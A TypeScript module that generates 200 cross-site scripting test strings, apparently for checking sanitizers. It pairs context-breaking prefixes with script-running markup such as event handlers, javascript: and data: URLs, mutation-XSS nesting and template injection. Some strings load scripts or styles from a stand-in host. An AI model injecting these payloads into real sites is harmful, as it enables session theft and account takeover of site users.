/** Texts that become scripts wherever a page takes a text for markup: 200, made of what breaks out of a context and of what runs in it. */

/** What each of them does when it runs. */
const SCRIPT = 'top.ran=1'

const RUNS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<ScRiPt>${SCRIPT}</sCrIpT >`,
  `<script src=data:text/javascript,${SCRIPT}></script>`,
  `<script src=//elsewhere.example/x.js></script>`,
  `<script type=module>${SCRIPT}</script>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img/src=x/onerror=${SCRIPT}//`,
  `<IMG SRC=x ONERROR="${SCRIPT}">`,
  `<img src=x:x onerror=&#116;op.ran=1>`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<svg><a xlink:href=javascript:${SCRIPT}><rect width=99 height=99 /></a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `<body onload=${SCRIPT}>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  `<iframe src=javascript:${SCRIPT}></iframe>`,
  `<iframe src="data:text/html,<script>${SCRIPT}</script>"></iframe>`,
  `<object data=javascript:${SCRIPT}></object>`,
  `<embed src=javascript:${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`,
  `<video><source onerror=${SCRIPT}></video>`,
  `<audio src=x onerror=${SCRIPT}></audio>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<select autofocus onfocus=${SCRIPT}></select>`,
  `<textarea autofocus onfocus=${SCRIPT}></textarea>`,
  `<div style=animation-name:x onanimationstart=${SCRIPT}>`,
  `<div onpointerover=${SCRIPT} style=position:fixed;inset:0>`,
  `<style>@import 'http://elsewhere.example/x.css';</style>`,
  `<link rel=stylesheet href=data:text/css,*{} onload=${SCRIPT}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<base href=//elsewhere.example/>`,
  `<form action=javascript:${SCRIPT}><button autofocus>go</button></form>`,
  `<a href=javascript:${SCRIPT}>go</a>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `javascript:${SCRIPT}`,
  `\${${SCRIPT}}`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `&lt;img src=x onerror=${SCRIPT}&gt;`,
]

const BREAKS: readonly string[] = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '</td></tr></table>',
  '</code>',
  '</pre>',
  '</script>',
  '</style>',
  '</textarea>',
  '</title>',
  '</template>',
  '-->',
  ']]>',
  '\\"',
  '&quot;>',
  '%22%3E',
  '\u2028',
]

const COUNT = 200

export const MARKUP: readonly string[] = Array.from({ length: COUNT }, (_, at) => {
  const round = Math.floor(at / RUNS.length)
  return `${BREAKS[(at + round * 7) % BREAKS.length] ?? ''}${RUNS[at % RUNS.length] ?? ''}`
})
